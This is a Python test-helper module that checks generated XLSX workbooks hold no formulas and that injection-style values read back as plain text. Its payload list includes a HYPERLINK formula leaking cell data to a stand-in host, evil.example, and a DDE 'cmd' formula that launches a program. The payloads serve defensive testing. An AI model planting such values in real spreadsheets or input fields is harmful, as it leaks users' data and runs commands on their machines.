"""Values that a spreadsheet program would take for a formula, and how a test finds one in a workbook.

Issue 17 item 1: an applicant's unit name ``=HYPERLINK(...)`` became a live formula in a
bureau's table. Every XLSX formgen writes is checked with these: its sheets' XML holds no
``<f>`` where data went, and each value reads back as the text that was typed.
"""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

from openpyxl import load_workbook

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
CALC = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, CALC, "+1+2", "-3-4", "@SUM(A1:A9)", "\t=1+1", "\r=2+2")
"""The issue's two payloads and a value starting with each of ``+ - @``, a tab and a CR."""


def formulas(xlsx: Path) -> list[str]:
    """Every ``<f>`` element of every worksheet of `xlsx`, as written."""
    found: list[str] = []
    with zipfile.ZipFile(xlsx) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>|<f/>", package.read(name).decode("utf-8"))
    return found


def texts(xlsx: Path) -> dict[str, Any]:
    """Every value of the first sheet by coordinate, with the type the file gives it (`str` for text)."""
    sheet = load_workbook(xlsx).worksheets[0]
    return {
        cell.coordinate: cell.value for row in sheet.iter_rows() for cell in row if cell.value is not None
    }


def assert_typed(xlsx: Path, expected: list[str]) -> None:
    """`xlsx` holds no formula, and each of `expected` as one string cell, exactly as typed."""
    assert formulas(xlsx) == [], f"{xlsx.name} holds formulas"
    sheet = load_workbook(xlsx).worksheets[0]
    strings = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s" and c.value]
    for text in expected:
        assert text in strings, f"{text!r} is not a text cell of {xlsx.name}"
